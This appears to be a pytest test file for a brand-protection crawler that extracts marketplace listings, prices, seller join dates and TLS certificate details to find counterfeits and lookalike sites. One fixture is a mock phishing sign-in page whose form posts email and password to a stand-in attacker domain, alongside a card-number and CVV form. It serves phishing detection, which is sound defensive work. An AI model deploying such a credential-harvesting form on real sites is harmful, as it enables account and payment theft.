import json
from datetime import datetime, timedelta, timezone

import pytest

from brandhound.items import Tls
from brandhound.html_text import decode_html
from crawlers.listing_extraction import extract_listing, parse_joined
from crawlers.page_facts import page_facts
from crawlers.prices import parse_price
from crawlers.tls_facts import tls_from_certificate, tls_from_security_details, tls_of


@pytest.mark.parametrize(
    ("text", "tld", "amount", "currency"),
    [
        ("39,00 €", None, 39.0, "EUR"),
        ("€39.00", None, 39.0, "EUR"),
        ("1 299,00 zł", None, 1299.0, "PLN"),
        ("R$ 120,00", None, 120.0, "BRL"),
        ("$42.50", None, 42.5, "USD"),
        ("£35", None, 35.0, "GBP"),
        ("EUR 12.90", None, 12.9, "EUR"),
        ("249 kr", "se", 249.0, "SEK"),
        ("Hinta: 19,90 EUR", None, 19.9, "EUR"),
        ("ask the seller", None, None, None),
    ],
)
def test_prices_parse_with_their_currency(text, tld, amount, currency):
    assert parse_price(text, tld=tld) == (amount, currency)


def test_jsonld_product_wins_and_is_recorded_as_the_source():
    ld = {"@context": "https://schema.org", "@type": "Product", "name": "Kestrava Aalto Espresso Cup",
          "sku": "KST-CUP-001", "brand": {"@type": "Brand", "name": "Kestrava"},
          "image": ["/img/1.jpg", "https://cdn.example/2.jpg"],
          "aggregateRating": {"@type": "AggregateRating", "ratingValue": "4.5", "reviewCount": "12"},
          "offers": {"@type": "Offer", "price": "39.00", "priceCurrency": "EUR",
                     "seller": {"@type": "Organization", "name": "Nordic Finds"}}}
    html = f"""<html><head><title>Other title | BazaarHub</title>
    <script type="application/ld+json">{json.dumps(ld)}</script></head>
    <body><h1>Visible title</h1><span class="price">€ 9.99</span></body></html>"""
    got = extract_listing(html, "https://www.bazaarhub.com/item/1")
    assert (got.title, got.price, got.currency, got.sku, got.brand, got.seller) == (
        "Kestrava Aalto Espresso Cup", 39.0, "EUR", "KST-CUP-001", "Kestrava", "Nordic Finds")
    assert got.images == ["https://www.bazaarhub.com/img/1.jpg", "https://cdn.example/2.jpg"]
    assert (got.rating, got.ratings_count, got.extraction) == (4.5, 12, "jsonld")


def test_microdata_product():
    html = """<div itemscope itemtype="https://schema.org/Product">
      <h1 itemprop="name">Kestreva espresso cup réplica</h1>
      <div itemprop="offers" itemscope itemtype="https://schema.org/Offer">
        <span itemprop="price" content="12.50">12,50 €</span><meta itemprop="priceCurrency" content="EUR"></div>
      <img itemprop="image" src="/i/7.jpg"></div>"""
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/7")
    assert (got.title, got.price, got.currency, got.extraction) == ("Kestreva espresso cup réplica", 12.5, "EUR", "microdata")
    assert got.images == ["https://torimarket.fi/i/7.jpg"]


def test_visible_html_only():
    html = """<html><head><title>Myydään | Tori</title></head><body>
      <header><img src="/static/logo.png" class="logo"></header>
      <h1> Kestrava   Kissa cushion cover 1:1 </h1>
      <div class="listing-price">1 299,00 zł</div>
      <div class="seller-name">Myyjä: halpa_kauppa</div>
      <dl><dt>Ships from</dt><dd>CN</dd><dt>Quantity</dt><dd>250</dd></dl>
      <div class="gallery"><img src="/u/a.jpg"><img src="/u/b.jpg"></div></body></html>"""
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/9")
    assert (got.title, got.price, got.currency, got.extraction) == ("Kestrava Kissa cushion cover 1:1", 1299.0, "PLN", "html")
    assert got.seller == "halpa_kauppa"
    assert (got.ships_from, got.quantity) == ("CN", 250)
    assert got.images == ["https://torimarket.fi/u/a.jpg", "https://torimarket.fi/u/b.jpg"]


def test_javascript_shell_is_incomplete():
    html = "<html><body><div id='app'></div><script src='/app.js'></script></body></html>"
    assert not extract_listing(html, "https://torimarket.fi/ilmoitus/3").is_complete


@pytest.mark.parametrize("html", ["", "   ", "<<<>>>", "\x00\x01binary", "<div>" * 5000, "<html><body><h1>only a title"])
def test_hostile_html_never_raises(html):
    extract_listing(html, "https://x.example/item/1")


def test_decode_trusts_valid_bytes_over_a_lying_declaration():
    text = "Käsintehty espressokuppi – 39,00 €"
    # Header says UTF-8 but the bytes are cp1252.
    assert decode_html(f"<p>{text}</p>".encode("cp1252"), "text/html; charset=utf-8")[0] == f"<p>{text}</p>"
    # Meta says Latin-1 but the bytes are UTF-8.
    body = f'<meta charset="iso-8859-1"><p>{text}</p>'.encode("utf-8")
    assert text in decode_html(body, "text/html")[0]
    # A truthful Latin-1 page stays Latin-1.
    assert decode_html("<p>Käsin</p>".encode("latin-1"), "text/html; charset=iso-8859-1")[0] == "<p>Käsin</p>"


def test_page_facts_forms_posting_elsewhere():
    html = """<html><head><title>Kestrava – Sign in</title><link rel="shortcut icon" href="/fav.png"></head><body>
      <img src="/img/kestrava-logo.png" alt="Kestrava logo">
      <form action="https://collect.evil-host.ru/p" method="POST"><input name="email"><input type="password" name="pw"></form>
      <form><input name="cardnumber" autocomplete="cc-number"><input name="cvv"></form>
      <a href="/about">about</a><a href="mailto:x@y.z">mail</a><a href="https://kestrava.com/">official</a></body></html>"""
    facts = page_facts(html, "https://kestrava-login.com/signin")
    assert facts.title == "Kestrava – Sign in"
    assert facts.favicon_url == "https://kestrava-login.com/fav.png"
    assert facts.logo_urls == ["https://kestrava-login.com/img/kestrava-logo.png"]
    login, card = facts.forms
    assert (login.action_domain, login.method, login.has_password, login.has_card) == ("evil-host.ru", "post", True, False)
    assert (card.action, card.has_card) == ("https://kestrava-login.com/signin", True)
    assert facts.links == ["https://kestrava-login.com/about", "https://kestrava.com/"]


def test_price_found_by_a_class_in_the_page_language():
    html = '<h1>Kesstrava rocket poster</h1><span class="hinta">21,99 €</span><p class="myyja">Myyjä: halpis</p>'
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/1")
    assert (got.price, got.currency, got.seller) == (21.99, "EUR", "halpis")


@pytest.mark.parametrize("text, amount, currency", [
    ("€29.50 (0.00050 BTC)", 29.5, "EUR"),
    ("0.00086 BTC (≈ $54.50)", 54.5, "USD"),
    ("$11.00 (0.067 XMR)", 11.0, "USD"),
])
def test_crypto_amounts_beside_a_fiat_price_are_not_the_price(text, amount, currency):
    assert parse_price(text) == (amount, currency)


def test_title_from_a_marked_heading_or_the_document_title_without_the_site_suffix():
    marked = "<html><head><title>Cup :: DarkBazaar</title></head><body><h2 class='title'>Kestrava cup 1:1</h2>" \
             "<td class='price'>€9.00</td></body></html>"
    assert extract_listing(marked, "http://x.onion/listing/1").title == "Kestrava cup 1:1"
    bare = "<html><head><title>Kestrava cup 1:1 :: DarkBazaar</title></head><body><td class='price'>€9.00</td></body></html>"
    assert extract_listing(bare, "http://x.onion/listing/1").title == "Kestrava cup 1:1"


def test_a_page_with_an_xml_encoding_declaration_still_extracts():
    page = ('<?xml version="1.0" encoding="utf-8"?><html><head><script type="application/ld+json">'
            '{"@type": "Product", "name": "Kestrava cup", "offers": {"price": "12.50", "priceCurrency": "EUR"}}'
            '</script></head><body><h1>Kestrava cup</h1></body></html>')
    listing = extract_listing(page, "https://www.bazaarhub.com/item/1")
    assert (listing.title, listing.price, listing.currency, listing.extraction) == ("Kestrava cup", 12.5, "EUR", "jsonld")


# --------------------------------------------------------------------------- seller join dates

NOW = datetime(2026, 11, 24, 12, 0, tzinfo=timezone.utc)


@pytest.mark.parametrize(("text", "joined"), [
    ("Member for 3 weeks", NOW - timedelta(days=21)),
    ("Joined 12 days ago", NOW - timedelta(days=12)),
    ("Member for 1 year", NOW - timedelta(days=365)),
    ("4 kuukautta sitten", NOW - timedelta(days=120)),
    ("5 päivää sitten", NOW - timedelta(days=5)),
    ("hace 2 semanas", NOW - timedelta(days=14)),
    ("joined 2026-10", datetime(2026, 10, 1, tzinfo=timezone.utc)),
    ("Member since March 2019", datetime(2019, 3, 1, tzinfo=timezone.utc)),
    ("jäsen vuodesta 2019", datetime(2019, 1, 1, tzinfo=timezone.utc)),  # a year alone: its first day
    ("a while ago", None), ("", None), ("2026-13", None),
])
def test_seller_join_dates_absolute_and_relative(text, joined):
    assert parse_joined(text, NOW) == joined


def test_seller_join_date_from_a_label_and_its_value_or_structured_data():
    table = """<html><body><h1>Kestrava cup</h1><span class="price">12,00 €</span><table>
      <tr><th>Myyjä</th><td class="myyja">halpa</td></tr>
      <tr><th>Myyjä liittynyt</th><td>3 viikkoa sitten</td></tr></table></body></html>"""
    assert extract_listing(table, "https://torimarket.fi/ilmoitus/1", now=NOW).seller_joined == NOW - timedelta(days=21)
    ld = {"@type": "Product", "name": "Kestrava cup", "image": "/1.jpg",
          "offers": {"price": "9", "priceCurrency": "EUR",
                     "seller": {"@type": "Organization", "name": "x", "foundingDate": "2026-11-01"}}}
    page = f'<html><head><script type="application/ld+json">{json.dumps(ld)}</script></head><body></body></html>'
    got = extract_listing(page, "https://www.bazaarhub.com/item/1", now=NOW)
    assert got.seller_joined == datetime(2026, 11, 1, tzinfo=timezone.utc)
    assert got.to_json()["seller_joined"] == "2026-11-01T00:00:00+00:00"
    assert extract_listing("<h1>t</h1><p class='price'>9 €</p>", "https://x.example/1").seller_joined is None


def test_every_sandbox_listing_shows_its_sellers_join_date(tmp_path):
    """Both marketplace styles (and the JavaScript listings' API): the extracted date is the labelled age."""
    from evaluation.sandbox import SandboxBuild
    from sandbox.web import build
    from tests.support.paths import EXAMPLE_BRAND

    build(EXAMPLE_BRAND, tmp_path, listings_per_marketplace=40)
    sandbox = SandboxBuild(tmp_path)
    listings = [p for p in sandbox.truth["pages"] if p["kind"] == "listing"]
    static = [p for p in listings if p["rendering"] == "static"]
    assert {p["site"] for p in static} == {"BazaarHub", "Tori Market"}
    for page in static:
        got = extract_listing(sandbox.body(page["url"]).decode(), page["url"], now=NOW)
        assert got.seller_joined is not None, page["url"]
        # Shown in whole days, weeks, months or years: never more recent than the truth, at most a unit off.
        age = (NOW - got.seller_joined).days
        assert age <= page["seller_joined_days"] < age + 365, (page["url"], age, page["seller_joined_days"])
        assert (age < 90) == (page["seller_joined_days"] < 90), page["url"]
    for page in (p for p in listings if p["rendering"] == "js"):
        api = json.loads(sandbox.body(page["api_url"]))
        assert (NOW - parse_joined(api["liittynyt"], NOW)).days <= page["seller_joined_days"]


# --------------------------------------------------------------------------- TLS certificate facts


def _certificate(issued: datetime):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    issuer = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Let's Encrypt"),
                        x509.NameAttribute(NameOID.COMMON_NAME, "R11")])
    return (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kestrava.co")]))
            .issuer_name(issuer).public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(issued).not_valid_after(issued + timedelta(days=90)).sign(key, hashes.SHA256()))


def test_tls_facts_from_the_browser():
    details = {"issuer": "R11", "protocol": "TLS 1.3", "subjectName": "kestrava.co",
               "validFrom": NOW.timestamp(), "validTo": (NOW + timedelta(days=90)).timestamp()}
    assert tls_from_security_details(details) == Tls(issuer="R11", not_before=NOW, not_after=NOW + timedelta(days=90))
    assert tls_from_security_details({"issuer": "R11", "validFrom": -1, "validTo": "soon"}) == Tls(issuer="R11")
    assert tls_from_security_details({}) is None and tls_from_security_details(None) is None


def test_tls_facts_from_scrapys_connection():
    from OpenSSL.crypto import X509
    from twisted.internet.ssl import Certificate

    cert = _certificate(NOW)
    expected = Tls(issuer="CN=R11,O=Let's Encrypt", not_before=NOW.replace(microsecond=0),
                   not_after=(NOW + timedelta(days=90)).replace(microsecond=0))
    assert tls_from_certificate(cert) == expected
    assert tls_from_certificate(Certificate(X509.from_cryptography(cert))) == expected
    assert tls_from_certificate(None) is None and tls_from_certificate(object()) is None


def test_tls_facts_of_a_response_prefer_the_browser_and_skip_plain_http():
    from OpenSSL.crypto import X509
    from scrapy import Request
    from scrapy.http import HtmlResponse
    from twisted.internet.ssl import Certificate

    cert = Certificate(X509.from_cryptography(_certificate(NOW - timedelta(days=400))))
    browser = Request("https://kestrava.co/", meta={"playwright_security_details": {
        "issuer": "R11", "validFrom": NOW.timestamp(), "validTo": NOW.timestamp() + 86400}})
    assert tls_of(HtmlResponse(browser.url, request=browser, body=b"", certificate=cert)).not_before == NOW
    plain = Request("https://kestrava.co/")
    assert tls_of(HtmlResponse(plain.url, request=plain, body=b"", certificate=cert)).issuer == "CN=R11,O=Let's Encrypt"
    http = Request("http://kestrava.co/")
    assert tls_of(HtmlResponse(http.url, request=http, body=b"", certificate=cert)) is None
    assert tls_of(HtmlResponse("https://kestrava.co/", body=b"")) is None
